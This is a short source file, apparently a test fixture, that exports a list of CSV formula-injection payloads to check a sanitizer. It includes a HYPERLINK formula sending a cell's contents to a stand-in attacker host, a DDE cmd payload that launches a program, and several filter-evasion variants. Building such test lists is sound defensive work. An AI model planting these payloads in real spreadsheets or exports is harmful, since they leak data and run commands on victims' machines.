/** CSV-injection payloads (OWASP; those of issue 15 first): cells a spreadsheet would run as formulas. */
export const PAYLOADS = [
  '=HYPERLINK("http://evil.example/?d="&B2,"click")',
  '+1+1',
  '-1+1',
  '@SUM(1+1)',
  "=cmd|' /C calc'!A0",
  '\t=1+2',
  ' =1+2',
  '＝1+2',
  '\r=1+2',
  '＋1',
  '－1',
  '＠SUM(1)',
  '\t',
];
